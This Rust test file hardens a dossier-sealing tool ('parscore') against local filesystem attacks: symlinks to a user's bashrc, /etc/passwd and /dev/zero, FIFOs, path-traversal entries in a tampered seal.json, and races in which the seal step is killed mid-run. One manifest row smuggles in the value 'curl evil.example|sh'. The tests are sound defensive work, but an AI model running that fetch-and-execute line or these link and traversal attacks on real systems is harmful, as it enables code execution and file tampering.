//! A dossier folder that anyone on the shared drive can write to, attacked the way issue 10
//! describes: links at temporary names, links, FIFOs and devices in `files/` and in place
//! of the dossier's own files, `seal` killed or raced at each of its steps, a tampered
//! `seal.json`, inputs without end, hard links, and a million manifest rows on one file.
//! Each test performs the attack and checks that nothing outside the dossier was read or
//! written, nothing hung, and nobody's edit was lost. (Output injection: `output_safety.rs`.)

use crate::harness::{copy_dossier, parscore, run_in};
use serde_json::Value;
use std::fs;
use std::io::{BufRead, BufReader};
use std::os::unix::fs::symlink;
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const DOSSIER: &str = "dossiers/evidence_complete";
const BC02_FILE: &str = "files/bao-cao-cchc-nam-2026.txt";

/// A fresh copy of `evidence_complete` in a temporary folder that also holds files
/// "outside the dossier" for the attacks to aim at.
struct Shared(tempfile::TempDir);

impl Shared {
    fn new() -> Self {
        Shared(copy_dossier("evidence_complete"))
    }

    fn sealed() -> Self {
        let s = Shared::new();
        let (code, _, err) = s.run(&["seal", DOSSIER]);
        assert_eq!(code, 0, "{err}");
        s
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.0.path().join(DOSSIER).join(rel)
    }

    /// A file outside the dossier, with known content.
    fn outside(&self, name: &str, content: &str) -> PathBuf {
        let p = self.0.path().join(name);
        fs::write(&p, content).unwrap();
        p
    }

    fn run(&self, args: &[&str]) -> (i32, String, String) {
        run_in(self.0.path(), args)
    }

    fn read(&self, rel: &str) -> Vec<u8> {
        fs::read(self.path(rel)).unwrap_or_default()
    }

    fn verify_json(&self) -> (i32, Value) {
        let (code, out, err) = self.run(&["verify", DOSSIER, "--format", "json"]);
        assert!(err.is_empty(), "{err}");
        (code, serde_json::from_str(&out).unwrap())
    }

    /// The temporaries in the dossier folder (`.parscore-*.tmp`).
    fn temporaries(&self) -> Vec<String> {
        fs::read_dir(self.path(""))
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(".parscore-") && n.ends_with(".tmp"))
            .collect()
    }
}

fn mkfifo(path: &Path) {
    let c = std::ffi::CString::new(path.to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0, "mkfifo");
}

/// What a run did: its exit code (`None` when it had to be killed at the deadline or died
/// of a signal, as a process that runs out of memory does), and its output.
struct Measured {
    code: Option<i32>,
    out: String,
    err: String,
}

/// The memory a run that only refuses its input may use: a read of `/dev/zero` would pass
/// it within a second.
const SMALL: u64 = 128 << 20;

/// Runs `parscore ARGS…` in `cwd` with at most `memory` bytes of data (`RLIMIT_DATA`: an
/// allocation beyond it fails and the process aborts), killed if it is still running after
/// `limit` (a hang is a failure, not a slow test).
fn run_bounded(cwd: &Path, args: &[&str], limit: Duration, memory: u64) -> Measured {
    use std::os::unix::process::CommandExt;
    let out_path = cwd.join(".stdout");
    let err_path = cwd.join(".stderr");
    let mut command = Command::new(parscore().get_program());
    command
        .current_dir(cwd)
        .args(args)
        .env_remove("RUST_BACKTRACE")
        .stdin(Stdio::null())
        .stdout(fs::File::create(&out_path).unwrap())
        .stderr(fs::File::create(&err_path).unwrap());
    unsafe {
        command.pre_exec(move || {
            let cap = libc::rlimit {
                rlim_cur: memory as libc::rlim_t,
                rlim_max: memory as libc::rlim_t,
            };
            if libc::setrlimit(libc::RLIMIT_DATA, &cap) == 0 {
                Ok(())
            } else {
                Err(std::io::Error::last_os_error())
            }
        });
    }
    // Reaped below with `waitpid`, polling against the deadline.
    #[allow(clippy::zombie_processes)]
    let child = command.spawn().unwrap();
    let pid = child.id() as libc::pid_t;
    let start = Instant::now();
    let mut status = 0;
    let mut killed = false;
    loop {
        let r = unsafe { libc::waitpid(pid, &mut status, libc::WNOHANG) };
        if r == pid {
            break;
        }
        if start.elapsed() > limit && !killed {
            unsafe { libc::kill(pid, libc::SIGKILL) };
            killed = true;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let code = if killed || !libc::WIFEXITED(status) {
        None
    } else {
        Some(libc::WEXITSTATUS(status))
    };
    Measured {
        code,
        out: fs::read_to_string(out_path).unwrap_or_default(),
        err: fs::read_to_string(err_path).unwrap_or_default(),
    }
}

const LIMIT: Duration = Duration::from_secs(60);

// 1. Writes that cannot be redirected.

/// The last process id the kernel handed out, to plant links at the names that the next
/// processes would have used.
fn last_pid() -> u32 {
    fs::read_to_string("/proc/sys/kernel/ns_last_pid")
        .ok()
        .and_then(|s| s.trim().parse().ok())
        .unwrap_or(std::process::id())
}

#[test]
fn links_planted_at_every_old_temporary_name_are_never_followed() {
    let s = Shared::new();
    let bashrc = s.outside("bashrc", "# the user's shell start-up\n");
    let mut manifest = String::from_utf8(s.read("manifest.csv")).unwrap();
    manifest.push_str("\"curl evil.example|sh\",ke-hoach-cchc-2026.txt,,,,,1.1.1,,\n");
    fs::write(s.path("manifest.csv"), manifest).unwrap();
    let from = last_pid();
    for pid in from..from + 3000 {
        for name in ["manifest.csv", "seal.json"] {
            symlink(&bashrc, s.path(&format!(".{name}.tmp-{pid}"))).unwrap();
        }
    }
    let (code, _, err) = s.run(&["seal", DOSSIER]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        fs::read_to_string(&bashrc).unwrap(),
        "# the user's shell start-up\n"
    );
    for name in ["manifest.csv", "seal.json"] {
        let t = fs::symlink_metadata(s.path(name)).unwrap().file_type();
        assert!(t.is_file(), "{name} is a regular file");
    }
    let (code, v) = s.verify_json();
    assert_eq!((code, &v["intact"]), (0, &Value::Bool(true)), "{v}");
}

#[test]
fn a_manifest_that_is_a_link_out_of_the_dossier_is_neither_read_nor_replaced() {
    let s = Shared::new();
    let elsewhere = s.outside(
        "elsewhere.csv",
        &String::from_utf8(s.read("manifest.csv")).unwrap(),
    );
    let before = fs::read(&elsewhere).unwrap();
    fs::remove_file(s.path("manifest.csv")).unwrap();
    symlink(&elsewhere, s.path("manifest.csv")).unwrap();
    let (code, _, err) = s.run(&["seal", DOSSIER]);
    assert_eq!(code, 2);
    assert_eq!(
        err,
        format!(
            "{DOSSIER}/manifest.csv: là liên kết dẫn ra ngoài thư mục hồ sơ nên không được đọc\n"
        )
    );
    assert_eq!(fs::read(&elsewhere).unwrap(), before);
    assert!(fs::symlink_metadata(s.path("manifest.csv"))
        .unwrap()
        .file_type()
        .is_symlink());
    assert!(!s.path("seal.json").exists());
}

#[test]
fn a_seal_json_that_is_a_link_is_not_written_through_and_nothing_changes() {
    let s = Shared::new();
    let target = s.outside("profile", "export PATH=/usr/bin\n");
    symlink(&target, s.path("seal.json")).unwrap();
    let manifest = s.read("manifest.csv");
    let (code, _, err) = s.run(&["seal", DOSSIER]);
    assert_eq!(code, 2);
    assert!(
        err.ends_with(
            "seal.json: tệp đích là liên kết nên không được ghi đè (không ghi gì); thay liên kết bằng tệp thật rồi chạy lại\n"
        ),
        "{err}"
    );
    assert_eq!(
        fs::read_to_string(&target).unwrap(),
        "export PATH=/usr/bin\n"
    );
    assert_eq!(s.read("manifest.csv"), manifest);
    assert!(s.temporaries().is_empty(), "{:?}", s.temporaries());
}

// 2. One path policy for everything in files/.

fn assert_seal_refuses(s: &Shared, message: &str) {
    let m = run_bounded(s.0.path(), &["seal", DOSSIER], LIMIT, SMALL);
    assert_eq!(m.code, Some(1), "{}", m.err);
    assert_eq!(m.err, format!("{message}\n1 lỗi, 0 cảnh báo\n"));
    assert!(!s.path("seal.json").exists());
}

#[test]
fn an_unlisted_link_to_a_system_file_is_refused_not_hashed() {
    let s = Shared::new();
    symlink("/etc/passwd", s.path("files/pw.txt")).unwrap();
    assert_seal_refuses(
        &s,
        &format!("{DOSSIER}/files/pw.txt: files/pw.txt là liên kết dẫn ra ngoài thư mục files/ của hồ sơ nên không được đọc; gỡ nó khỏi files/ rồi niêm phong lại"),
    );
}

#[test]
fn a_fifo_in_files_is_refused_without_hanging_seal_or_evidence() {
    let s = Shared::new();
    mkfifo(&s.path("files/pipe.pdf"));
    assert_seal_refuses(
        &s,
        &format!("{DOSSIER}/files/pipe.pdf: files/pipe.pdf không phải tệp thông thường (ống FIFO) nên không được mở; gỡ nó khỏi files/ rồi niêm phong lại"),
    );
    let m = run_bounded(
        s.0.path(),
        &["evidence", DOSSIER, "--format", "json"],
        LIMIT,
        SMALL,
    );
    assert_eq!(m.code, Some(1), "{}", m.err);
    let v: Value = serde_json::from_str(&m.out).unwrap();
    let p = &v["problems"][0];
    assert_eq!(p["kind"], "unsafe_path");
    assert_eq!(
        p["message"],
        "files/pipe.pdf không phải tệp thông thường (ống FIFO) nên không được mở"
    );
}

#[test]
fn a_listed_link_to_dev_zero_is_refused_at_its_row_without_hashing_forever() {
    let s = Shared::new();
    fs::remove_file(s.path(BC02_FILE)).unwrap();
    symlink("/dev/zero", s.path(BC02_FILE)).unwrap();
    assert_seal_refuses(
        &s,
        &format!("{DOSSIER}/manifest.csv:5: [1.2.2] \"bao-cao-cchc-nam-2026.txt\" là liên kết dẫn ra ngoài thư mục files/ của hồ sơ nên bị từ chối"),
    );
}

#[test]
fn files_as_a_link_to_etc_seals_nothing_of_the_system() {
    let s = Shared::new();
    fs::rename(s.path("files"), s.0.path().join("moved")).unwrap();
    symlink("/etc", s.path("files")).unwrap();
    let m = run_bounded(s.0.path(), &["seal", DOSSIER], LIMIT, SMALL);
    assert_eq!(m.code, Some(1), "{}", m.err);
    let refused = "thư mục files/ của hồ sơ là liên kết hoặc không phải thư mục nên không được đọc";
    assert_eq!(m.err.matches(refused).count(), 4, "{}", m.err);
    assert!(m.err.ends_with("4 lỗi, 0 cảnh báo\n"), "{}", m.err);
    assert!(!s.path("seal.json").exists());
}

// 3. Seal as one transaction, proven by killing it at each step.

type StderrLines = std::io::Lines<BufReader<std::process::ChildStderr>>;

/// Starts `seal` paused at `step` (a debug-build hook), waits until it says it is there,
/// and returns it still running, with the rest of its standard error.
fn seal_paused_at(s: &Shared, step: &str) -> (std::process::Child, StderrLines) {
    let mut child = Command::new(parscore().get_program())
        .current_dir(s.0.path())
        .args(["seal", DOSSIER])
        .env("PARSCORE_TEST_PAUSE", format!("{step}:30000"))
        .env_remove("RUST_BACKTRACE")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stderr.take().unwrap()).lines();
    let wanted = format!("parscore: paused at {step}");
    loop {
        match lines.next() {
            Some(Ok(l)) if l == wanted => break,
            Some(Ok(_)) => continue,
            other => panic!("seal ended before {step}: {other:?}"),
        }
    }
    (child, lines)
}

fn kill_9((mut child, _): (std::process::Child, StderrLines)) {
    child.kill().unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.signal(), Some(libc::SIGKILL), "the kill happened");
}

#[test]
fn seal_killed_before_its_renames_leaves_the_old_pair_then_completes() {
    for step in ["hashed", "staged"] {
        let s = Shared::sealed();
        let (manifest, seal) = (s.read("manifest.csv"), s.read("seal.json"));
        fs::write(s.path(BC02_FILE), "Báo cáo, bản sửa sau niêm phong\n").unwrap();
        kill_9(seal_paused_at(&s, step));
        assert_eq!(s.read("manifest.csv"), manifest, "{step}");
        assert_eq!(s.read("seal.json"), seal, "{step}");
        // The next seal removes what the killed one left and completes.
        let (code, _, err) = s.run(&["seal", DOSSIER]);
        assert_eq!(code, 0, "{err}");
        assert!(s.temporaries().is_empty(), "{step}: {:?}", s.temporaries());
        assert_ne!(s.read("manifest.csv"), manifest, "{step}");
        let (code, v) = s.verify_json();
        assert_eq!(code, 0, "{step}: {v}");
    }
}

#[test]
fn seal_killed_between_its_renames_is_recognised_by_verify_and_completed_by_the_next_seal() {
    let s = Shared::sealed();
    let manifest = s.read("manifest.csv");
    fs::write(s.path(BC02_FILE), "Báo cáo, bản sửa sau niêm phong\n").unwrap();
    kill_9(seal_paused_at(&s, "between"));
    assert_eq!(
        s.read("manifest.csv"),
        manifest,
        "the manifest is the old one"
    );
    let (code, v) = s.verify_json();
    assert_eq!(code, 1);
    assert_eq!(v["half_finished"], true, "{v}");
    assert_eq!(v["changed"], serde_json::json!(["manifest.csv"]), "{v}");
    let (code, out, _) = s.run(&["verify", DOSSIER]);
    assert_eq!(code, 1);
    assert!(
        out.contains("  lần niêm phong lúc đó bị ngắt giữa chừng: seal.json đã ghi nhưng manifest.csv chưa được cập nhật; chạy lại parscore seal\n"),
        "{out}"
    );
    let (code, _, err) = s.run(&["seal", DOSSIER]);
    assert_eq!(code, 0, "{err}");
    let (code, v) = s.verify_json();
    assert_eq!((code, &v["half_finished"]), (0, &Value::Bool(false)), "{v}");
}

// 4. An edit made during seal is never lost; a second seal waits its turn.

#[test]
fn a_row_added_to_the_manifest_while_seal_runs_is_kept_and_the_seal_refused() {
    let s = Shared::new();
    let (mut child, lines) = seal_paused_at(&s, "staged");
    let mut text = String::from_utf8(s.read("manifest.csv")).unwrap();
    text.push_str(
        "BC03,bao-cao-cchc-nam-2026.txt,151/BC-VP,21/11/2026,Văn phòng,Bổ sung,1.2.2,,\n",
    );
    fs::write(s.path("manifest.csv"), &text).unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(1));
    let err: Vec<String> = lines.map(Result::unwrap).collect();
    assert_eq!(
        err.join("\n") + "\n",
        format!("{DOSSIER}/manifest.csv: manifest.csv đã được sửa trong lúc niêm phong; không ghi gì, bản sửa được giữ nguyên; chạy lại parscore seal\n1 lỗi, 0 cảnh báo\n")
    );
    assert_eq!(String::from_utf8(s.read("manifest.csv")).unwrap(), text);
    assert!(!s.path("seal.json").exists());
    assert!(s.temporaries().is_empty(), "{:?}", s.temporaries());
}

#[test]
fn a_second_seal_of_the_same_dossier_is_refused_while_the_first_runs() {
    let s = Shared::new();
    let first = seal_paused_at(&s, "hashed");
    let (code, _, err) = s.run(&["seal", DOSSIER]);
    assert_eq!(code, 2);
    assert_eq!(
        err,
        format!("{DOSSIER}/.parscore.lock: một lệnh parscore seal khác đang niêm phong hồ sơ này; chờ lệnh đó xong rồi chạy lại\n")
    );
    kill_9(first);
    let (code, _, err) = s.run(&["seal", DOSSIER]);
    assert_eq!(code, 0, "{err}");
}

// 5. A tampered seal.json reads nothing outside the dossier.

#[test]
fn a_tampered_seal_json_cannot_make_verify_read_or_confirm_outside_files() {
    let s = Shared::sealed();
    let passwd = fs::read("/etc/passwd").unwrap();
    let mut seal: Value = serde_json::from_slice(&s.read("seal.json")).unwrap();
    let entries = [
        ("../../../../../../etc/passwd", "criteria"),
        ("/etc/passwd", "criteria"),
        ("files/../../../../../../etc/passwd", "evidence"),
        ("../../../../../../proc/self/status", "criteria"),
        ("/proc/kmsg", "dossier"),
        ("../scores.csv", "scores"),
    ];
    for (path, role) in entries {
        seal["files"]
            .as_array_mut()
            .unwrap()
            .push(serde_json::json!({
                "path": path, "role": role, "bytes": passwd.len(),
                "sha256": parscore::evidence::sha256_bytes(&passwd),
            }));
    }
    fs::write(
        s.path("seal.json"),
        serde_json::to_string_pretty(&seal).unwrap(),
    )
    .unwrap();
    let m = run_bounded(
        s.0.path(),
        &["verify", DOSSIER, "--format", "json"],
        LIMIT,
        SMALL,
    );
    assert_eq!(m.code, Some(1), "{}", m.err);
    let v: Value = serde_json::from_str(&m.out).unwrap();
    let refused: Vec<&str> = entries.iter().map(|(p, _)| *p).collect();
    assert_eq!(v["refused"], serde_json::json!(refused), "{v}");
    assert_eq!(v["changed"], serde_json::json!([]), "{v}");
    assert_eq!(
        v["checked"], 9,
        "only the dossier's own nine files were read"
    );
}

// 6. Bounded reads: no input without end, no FIFO, no device.

#[test]
fn inputs_linked_to_dev_zero_or_replaced_by_a_fifo_are_refused_quickly_in_little_memory() {
    let cases: [(&str, &str, &str); 4] = [
        (
            "scores.csv",
            "zero",
            "scores.csv: là liên kết dẫn ra ngoài thư mục hồ sơ nên không được đọc",
        ),
        (
            "dossier.json",
            "zero",
            "dossier.json: là liên kết dẫn ra ngoài thư mục hồ sơ nên không được đọc",
        ),
        (
            "scores.csv",
            "fifo",
            "scores.csv: không phải tệp thông thường (ống FIFO) nên không được mở",
        ),
        (
            "plan.csv",
            "fifo",
            "plan.csv: không phải tệp thông thường (ống FIFO) nên không được mở",
        ),
    ];
    for (file, how, message) in cases {
        let s = Shared::new();
        fs::remove_file(s.path(file)).unwrap();
        match how {
            "zero" => symlink("/dev/zero", s.path(file)).unwrap(),
            _ => mkfifo(&s.path(file)),
        }
        for command in ["score", "evidence"] {
            let m = run_bounded(s.0.path(), &[command, DOSSIER], LIMIT, SMALL);
            assert_eq!(m.code, Some(2), "{file} {how} {command}: {}", m.err);
            assert_eq!(m.err, format!("{DOSSIER}/{message}\n"), "{command}");
        }
    }
}

#[test]
fn a_shared_criteria_file_that_is_a_device_is_refused() {
    let s = Shared::new();
    let settings = String::from_utf8(s.read("dossier.json")).unwrap();
    let settings = settings.replace("../../criteria/good/evidence.json", "/dev/zero");
    fs::write(s.path("dossier.json"), settings).unwrap();
    let m = run_bounded(s.0.path(), &["score", DOSSIER], LIMIT, SMALL);
    assert_eq!(m.code, Some(2), "{}", m.err);
    assert_eq!(
        m.err,
        "/dev/zero: không phải tệp thông thường (thiết bị) nên không được mở\n"
    );
}

#[test]
fn a_table_over_its_cap_is_refused_before_reading() {
    let s = Shared::new();
    let mut text = s.read("scores.csv");
    text.resize(65 << 20, b'\n');
    fs::write(s.path("scores.csv"), &text).unwrap();
    let m = run_bounded(
        s.0.path(),
        &["score", DOSSIER, "--format", "json"],
        LIMIT,
        SMALL,
    );
    assert_eq!(m.code, Some(2));
    assert_eq!(
        m.err,
        format!("{DOSSIER}/scores.csv: tệp lớn 65,0 MiB, vượt giới hạn 64 MiB cho loại tệp này; nếu đúng là tệp cần đọc, chạy lại với --max-input <MiB>\n")
    );
    // Raised with --max-input, such a file is read: see bad_inputs::a_100_mb_line_is_reported_at_line_1.
}

// 10. A million manifest rows naming one file: each distinct file is looked at and hashed
// once (before, every row hashed the file again: 84 s and 4.9 GB in a release build).

#[test]
fn a_million_manifest_rows_on_one_file_finish() {
    let s = Shared::new();
    let text = String::from_utf8(s.read("manifest.csv")).unwrap();
    // BC02, the only document of 1.2.2, comes last: 1.2.2 is covered only if every row
    // was read.
    let (head, bc02) = text.split_at(text.find("BC02,").unwrap());
    let mut text = head.to_string();
    for i in 0..1_000_000 {
        text.push_str(&format!("X{i:07},ke-hoach-cchc-2026.txt,,,,,1.1.1,,\n"));
    }
    text.push_str(bc02);
    fs::write(s.path("manifest.csv"), text).unwrap();
    let m = run_bounded(
        s.0.path(),
        &["score", DOSSIER, "--format", "json"],
        Duration::from_secs(240),
        8 << 30,
    );
    assert_eq!(m.code, Some(0), "{}", m.err);
    let v: Value = serde_json::from_str(&m.out).unwrap();
    assert_eq!(
        (
            &v["total"]["achieved"],
            &v["total"]["at_risk"],
            &v["total"]["strict"]
        ),
        (
            &Value::from("6.10"),
            &Value::from("0.00"),
            &Value::from("6.10")
        )
    );
}

// 11. seal and verify agree on every path seal accepts.

#[test]
fn seal_then_verify_is_intact_with_an_absolute_criteria_path() {
    let s = Shared::new();
    let criteria = s.0.path().join("criteria/good/evidence.json");
    let settings = String::from_utf8(s.read("dossier.json")).unwrap();
    let settings = settings.replace(
        "../../criteria/good/evidence.json",
        criteria.to_str().unwrap(),
    );
    fs::write(s.path("dossier.json"), settings).unwrap();
    let (code, _, err) = s.run(&["seal", DOSSIER]);
    assert_eq!(code, 0, "{err}");
    let (code, v) = s.verify_json();
    assert_eq!(
        (code, &v["intact"], &v["checked"]),
        (0, &Value::Bool(true), &Value::from(9)),
        "{v}"
    );
}

// 12. Shared files may lie outside the dossier, but their content is never quoted.

#[test]
fn a_ranking_or_criteria_path_naming_a_system_file_quotes_none_of_it() {
    let s = Shared::new();
    let settings = String::from_utf8(s.read("dossier.json")).unwrap();
    let with_rankings = settings.replace(
        "\"as_of\"",
        "\"rankings\": \"/etc/passwd\", \"target_rank\": 5, \"as_of\"",
    );
    fs::write(s.path("dossier.json"), &with_rankings).unwrap();
    let (code, out, err) = s.run(&["gap", DOSSIER]);
    assert_eq!((code, out.as_str()), (1, ""));
    assert_eq!(
        err,
        "/etc/passwd:1: tệp này không phải bảng xếp hạng: dòng tiêu đề không có cột nào trong \"year,group,unit,score,rank,source\"\n1 lỗi, 0 cảnh báo\n"
    );
    fs::write(
        s.path("dossier.json"),
        settings.replace("../../criteria/good/evidence.json", "/etc/passwd"),
    )
    .unwrap();
    let (code, _, err) = s.run(&["score", DOSSIER]);
    assert_eq!(code, 1);
    assert!(!err.contains("root"), "{err}");
}

// 13. Hard links: a sealed document that has another name is named in a warning.

#[test]
fn a_document_hard_linked_from_outside_the_dossier_is_sealed_with_a_warning() {
    let s = Shared::new();
    let outside = s.0.path().join("ban-ngoai.txt");
    fs::hard_link(s.path(BC02_FILE), &outside).unwrap();
    let (code, _, err) = s.run(&["seal", DOSSIER]);
    assert_eq!(code, 0);
    assert_eq!(
        err,
        format!("cảnh báo: các tệp sau còn có tên khác (liên kết cứng), có thể ở ngoài hồ sơ; sửa qua tên kia là sửa cả tài liệu đã niêm phong (verify sẽ phát hiện): {BC02_FILE}\n")
    );
    fs::write(&outside, "sửa qua tên khác\n").unwrap();
    let (code, v) = s.verify_json();
    assert_eq!(
        (code, &v["changed"]),
        (1, &serde_json::json!([BC02_FILE])),
        "{v}"
    );
}

/// A file no manifest row lists is sealed too, and verify notices when a byte of it
/// changes (a verify that skipped unlisted files would pass every other test).
#[test]
fn a_changed_byte_in_an_unlisted_sealed_file_fails_verify() {
    let s = Shared::new();
    fs::write(s.path("files/ghi-chu.txt"), "Ghi chú nội bộ\n").unwrap();
    let (code, _, err) = s.run(&["seal", DOSSIER]);
    assert_eq!(code, 0, "{err}");
    let (code, v) = s.verify_json();
    assert_eq!(code, 0, "{v}");
    fs::write(s.path("files/ghi-chu.txt"), "Ghi chú nội bộ!\n").unwrap();
    let (code, v) = s.verify_json();
    assert_eq!(code, 1);
    assert_eq!(
        v["changed"],
        serde_json::json!(["files/ghi-chu.txt"]),
        "{v}"
    );
}
